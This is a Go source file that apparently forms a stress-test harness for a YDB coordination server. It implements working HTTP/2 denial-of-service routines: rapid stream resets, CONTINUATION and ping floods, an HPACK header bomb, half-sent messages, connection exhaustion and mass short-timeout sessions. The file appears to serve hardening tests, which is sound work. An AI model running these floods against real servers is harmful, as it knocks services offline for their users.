package hostile

import (
	"context"
	"encoding/binary"
	"net"
	"strings"
	"sync"

	"github.com/ydb-platform/ydb-go-genproto/protos/Ydb_Coordination"
	"golang.org/x/net/http2"
)

// burst is the number of frames in one write of an attack.
const burst = 500

// transportAttacks misuse connections and HTTP/2.
var transportAttacks = []Attack{
	{Name: "silent-connections", Files: 256, run: silentConnections},
	{Name: "idle-connections", Files: 1024, run: idleConnections},
	{Name: "header-bomb", run: headerBomb},
	{Name: "continuations", run: flood(2, burst, func(w *wire) {
		if w.next == 1 {
			w.call(sessionMethod)
			_ = w.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: []byte{}})
		}
		for range burst {
			_ = w.fr.WriteContinuation(3, false, nil)
		}
	})},
	{Name: "silent-streams", run: flood(2, burst, func(w *wire) {
		for range burst {
			w.call(sessionMethod)
		}
	})},
	{Name: "half-messages", run: halfMessages(4<<20, 16<<10)},
	{Name: "crumbs", run: halfMessages(4<<20, 1)},
	{Name: "start-and-reset", run: flood(4, burst, func(w *wire) {
		start := message(startRequest(&Ydb_Coordination.SessionRequest_SessionStart{Path: SameNode, TimeoutMillis: 1000}))
		for range burst {
			id := w.call(sessionMethod)
			_ = w.fr.WriteData(id, false, start)
			_ = w.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
	})},
	{Name: "rapid-resets", run: flood(4, burst, func(w *wire) {
		for range burst {
			_ = w.fr.WriteRSTStream(w.call(sessionMethod), http2.ErrCodeCancel)
		}
	})},
	{Name: "window-updates", run: flood(4, burst, func(w *wire) {
		for range burst {
			_ = w.fr.WriteWindowUpdate(0, 1)
		}
	})},
	{Name: "priorities", run: flood(4, burst, func(w *wire) {
		for range burst {
			_ = w.fr.WritePriority(1, http2.PriorityParam{StreamDep: 3})
		}
	})},
	{Name: "empty-data", run: flood(4, burst, func(w *wire) {
		if w.next == 1 {
			w.call(sessionMethod)
		}
		for range burst {
			_ = w.fr.WriteData(1, false, nil)
		}
	})},
	{Name: "settings", run: flood(4, burst, func(w *wire) {
		for range burst {
			_ = w.fr.WriteSettings()
		}
	})},
	{Name: "http2-pings", run: flood(4, burst, func(w *wire) {
		for range burst {
			_ = w.fr.WritePing(false, [8]byte{1})
		}
	})},
	{Name: "short-timeouts", run: shortTimeouts},
}

// silentConnections keeps more connections open than the server may have files, and sends nothing.
func silentConnections(ctx context.Context, t *target) {
	t.repeat(ctx, 400, func(ctx context.Context) error {
		c, err := silent(ctx, t.addr)
		if err != nil {
			return err
		}
		defer c.Close()
		t.done.Add(1)
		stop := context.AfterFunc(ctx, func() { c.Close() })
		defer stop()

		return drain(c)
	})
}

// drain reads until the connection ends.
func drain(c net.Conn) error {
	buf := make([]byte, 1<<10)
	for {
		if _, err := c.Read(buf); err != nil {
			return err
		}
	}
}

// idleConnections keeps more connections open than the server may have files. They finish the handshake and do nothing
// else.
func idleConnections(ctx context.Context, t *target) {
	t.repeat(ctx, 1500, func(ctx context.Context) error {
		w, err := connect(ctx, t.addr)
		if err != nil {
			return err
		}
		t.done.Add(1)
		w.mu.Lock()
		defer w.mu.Unlock()
		for w.err == nil {
			w.moved.Wait()
		}

		return w.err
	})
}

// headerBomb sends half a million header fields in each call. Each takes one byte on the wire, because it refers to the
// table of headers. No call ends.
func headerBomb(ctx context.Context, t *target) {
	const addToTable, newest = "\x40\x01b\x00", "\xbe" // see RFC 7541, section 6
	bomb := []byte(addToTable + strings.Repeat(newest, 480_000))
	flood(2, 1, func(w *wire) { w.call(sessionMethod, bomb...) })(ctx, t)
}

// halfMessages sends nearly all of a large message on each of many streams, in pieces, and never the last byte.
func halfMessages(size, piece int) func(context.Context, *target) {
	return func(ctx context.Context, t *target) {
		body := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(size)), make([]byte, size-1)...)
		t.repeat(ctx, 16, func(ctx context.Context) error {
			w, err := connect(ctx, t.addr)
			if err != nil {
				return err
			}
			defer w.Close()
			for ctx.Err() == nil {
				if err := w.send(w.call(listMethod), body, piece); err != nil {
					return err
				}
				t.done.Add(1)
			}

			return nil
		})
	}
}

// shortTimeouts attaches thousands of sessions that the server has to ping every 10 ms, and answers the pings.
func shortTimeouts(ctx context.Context, t *target) {
	c, conn, err := t.client()
	if err != nil {
		return
	}
	defer conn.Close()
	var all sync.WaitGroup
	defer all.Wait()
	for i := range 3_000 {
		all.Go(func() {
			for ctx.Err() == nil {
				s, _, err := attach(ctx, c, &Ydb_Coordination.SessionRequest_SessionStart{TimeoutMillis: uint64(i%30 + 1)})
				if err != nil {
					t.cut.Add(1)
					wait(ctx, 100_000_000)

					continue
				}
				t.done.Add(1)
				for {
					m, err := s.Recv()
					if err != nil || !answer(s, m) {
						break
					}
				}
			}
		})
	}
}
